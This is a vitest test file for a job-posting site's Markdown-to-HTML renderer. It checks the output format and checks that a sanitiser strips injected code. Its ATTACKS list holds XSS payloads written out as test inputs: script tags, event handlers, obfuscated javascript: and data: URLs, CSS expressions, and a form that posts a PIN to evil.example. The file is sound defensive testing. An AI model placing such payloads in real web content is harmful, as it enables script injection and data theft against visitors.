import { describe, expect, it } from 'vitest';
import { withMarkdownHtml } from '../../src/content/markdown.js';

const entry = () =>
  withMarkdownHtml({
    id: 'pv-installer',
    locale: 'en',
    file: 'content/en/pv-installer.md',
    data: { title: 'PV installer' },
    body: '## Your tasks\n\n- Mounting **panels**\n',
  });

describe('a collection entry’s Markdown', () => {
  it('is rendered to HTML when a page reads entry.html', () => {
    expect(entry().html).toBe('<h2>Your tasks</h2>\n<ul>\n<li>Mounting <strong>panels</strong></li>\n</ul>\n');
  });

  it('travels as Markdown only: html is not enumerable, so JSON (the build id) and copies for workers leave it out', () => {
    const posting = entry();
    expect(Object.keys(posting)).toEqual(['id', 'locale', 'file', 'data', 'body']);
    expect(JSON.parse(JSON.stringify(posting))).not.toHaveProperty('html');
    expect(structuredClone(posting)).not.toHaveProperty('html');
  });

  it('is given back to a copy that lost it, and an entry that has html keeps it', () => {
    const copy = withMarkdownHtml(structuredClone(entry()));
    expect(copy.html).toContain('<h2>Your tasks</h2>');
    const written = { id: 'x', locale: 'de', file: 'x.md', data: {}, body: '# ignored', html: '<p>given</p>' };
    expect(withMarkdownHtml(written).html).toBe('<p>given</p>');
  });
});

const html = (body: string, options?: Parameters<typeof withMarkdownHtml>[1]) =>
  withMarkdownHtml({ id: 'x', locale: 'en', file: 'content/en/x.md', data: {}, body }, options).html;

/** Each way a posting could carry code into the page: the body, and what must not be in its HTML. */
const ATTACKS: { name: string; body: string; never: RegExp; keeps?: string }[] = [
  { name: 'a <script> element', body: 'Intro\n\n<script>alert(1)</script>\n\nOutro', never: /<script|alert/i, keeps: '<p>Outro</p>' },
  { name: 'an <img onerror=…>', body: '<img src="x.png" onerror="alert(1)">', never: /onerror|alert/i, keeps: '<img src="x.png">' },
  {
    name: 'an event handler on any element',
    body: '<p onclick="alert(1)" onmouseover=alert(2)>Hi</p>',
    never: /onclick|onmouseover|alert/i,
    keeps: '<p>Hi</p>',
  },
  { name: 'an <iframe>', body: '<iframe src="https://evil.example/"></iframe>', never: /<iframe|evil/i },
  {
    name: 'a <form action=…>',
    body: '<form action="https://evil.example/steal"><input name="pin"><button>Send</button></form>',
    never: /<form|<input|<button|action=|evil/i,
  },
  { name: 'a Markdown link to javascript:', body: '[apply](javascript:alert(1))', never: /javascript|alert/i, keeps: '<a>apply</a>' },
  {
    name: 'a javascript: link spelled with entities and case',
    body: '<a href="JaVa&#x53;cript&#58;alert(1)">x</a> [y](JAVASCRIPT:alert(2))',
    never: /javascript|alert/i,
  },
  { name: 'a javascript: link hidden by whitespace', body: '<a href=" &#14; javascript:alert(1)">x</a>', never: /javascript|alert/i },
  { name: 'a data: URL in a link', body: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', never: /data:/i },
  { name: 'a data: URL in an image', body: '![pixel](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)', never: /data:/i, keeps: 'alt="pixel"' },
  { name: 'a vbscript: link', body: '<a href="vbscript:msgbox(1)">x</a>', never: /vbscript/i },
  {
    name: 'a style with expression()',
    body: '<p style="width: expression(alert(1))">x</p>',
    never: /style|expression/i,
    keeps: '<p>x</p>',
  },
  { name: 'a style with url(javascript:…)', body: '<p style="background: url(javascript:alert(1))">x</p>', never: /style|javascript/i },
  {
    name: 'an <svg> with a script inside',
    body: '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">x</a></svg>',
    never: /<svg|<script|javascript|alert/i,
  },
  { name: 'an <object> and an <embed>', body: '<object data="evil.swf"></object><embed src="evil.swf">', never: /<object|<embed|evil/i },
  {
    name: 'a <meta http-equiv="refresh">',
    body: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    never: /<meta|javascript/i,
  },
  { name: 'a <style> element', body: '<style>body { background: url(https://evil.example/) }</style>Text', never: /<style|evil/i },
  { name: 'a <base href>', body: '<base href="https://evil.example/">', never: /<base|evil/i },
  { name: 'an attribute breaking out of its quotes', body: '<img src="x.png" alt="a&quot; onerror=&quot;alert(1)">', never: /" onerror=/i },
];

describe('a collection entry’s Markdown, sanitised', () => {
  for (const { name, body, never, keeps } of ATTACKS) {
    it(`leaves out ${name}`, () => {
      const rendered = html(body);
      expect(rendered).not.toMatch(never);
      if (keeps) expect(rendered).toContain(keeps);
    });
  }

  it('keeps what a posting is written with: headings, lists, emphasis, links, images, tables, code, quotes', () => {
    const body = [
      '# Title',
      '## Tasks',
      'Some *emphasis*, **strong**, ~~gone~~ and `code`.',
      '- one\n- two',
      '3. three\n4. four',
      '> quoted',
      '---',
      'Line one  \nline two',
      '[site](https://example.com/jobs "Jobs") [mail](mailto:jobs@example.com) [call](tel:+4930123) [here](/career/) [there](../about-us/)',
      '![Team](https://example.com/team.jpg) ![Logo](/logo.png)',
      '```ts\nconst a = 1 < 2;\n```',
      '| A | B |\n|:--|--:|\n| 1 | 2 |',
    ].join('\n\n');
    const rendered = html(body);
    for (const part of [
      '<h1>Title</h1>',
      '<h2>Tasks</h2>',
      '<em>emphasis</em>',
      '<strong>strong</strong>',
      '<del>gone</del>',
      '<code>code</code>',
      '<ul>\n<li>one</li>',
      '<ol start="3">',
      '<blockquote>\n<p>quoted</p>\n</blockquote>',
      '<hr>',
      'Line one<br>line two',
      '<a href="https://example.com/jobs" title="Jobs">site</a>',
      '<a href="mailto:jobs@example.com">mail</a>',
      '<a href="tel:+4930123">call</a>',
      '<a href="/career/">here</a>',
      '<a href="../about-us/">there</a>',
      '<img src="https://example.com/team.jpg" alt="Team">',
      '<img src="/logo.png" alt="Logo">',
      '<pre><code class="language-ts">const a = 1 &lt; 2;\n</code></pre>',
      '<th align="left">A</th>',
      '<td align="right">2</td>',
    ]) {
      expect(rendered).toContain(part);
    }
  });

  it('writes what marked wrote for safe Markdown, byte for byte', () => {
    const body =
      '## Deine Aufgaben\n\n- Montage von **PV-Anlagen** & Speichern\n- Kundentermine\n\nFragen? [Schreib uns](mailto:jobs@example.com) oder ruf an: [030 123](tel:+4930123).\n\n---\n\nIt\'s "quoted".';
    expect(html(body)).toBe(
      '<h2>Deine Aufgaben</h2>\n<ul>\n<li>Montage von <strong>PV-Anlagen</strong> &amp; Speichern</li>\n<li>Kundentermine</li>\n</ul>\n<p>Fragen? <a href="mailto:jobs@example.com">Schreib uns</a> oder ruf an: <a href="tel:+4930123">030 123</a>.</p>\n<hr>\n<p>It&#39;s &quot;quoted&quot;.</p>\n',
    );
  });

  it('keeps more when the site allows it, but never a handler, a script or a javascript: URL', () => {
    const options = { allowTags: ['iframe', 'figure', 'script'], allowAttributes: { iframe: ['src', 'title', 'onload'], p: ['style'] } };
    const rendered = html(
      '<figure><iframe src="https://video.example/embed/1" title="Video" onload="alert(1)"></iframe></figure><iframe src="javascript:alert(2)"></iframe><script>alert(3)</script><p style="color: red">red</p><p style="background: u\\72l(https://evil.example/)">x</p>',
      options,
    );
    expect(rendered).toContain('<figure><iframe src="https://video.example/embed/1" title="Video"></iframe>');
    expect(rendered).toContain('<p style="color:red">red</p>');
    expect(rendered).not.toMatch(/onload|javascript|<script|alert|evil/i);
  });

  it('leaves a data: image out even when the site allows more attributes on images', () => {
    expect(
      html('<img src="data:image/png;base64,AAAA" srcset="data:image/png;base64,AAAA 1x">', {
        allowTags: [],
        allowAttributes: { img: ['srcset'] },
      }),
    ).not.toContain('data:');
  });
});
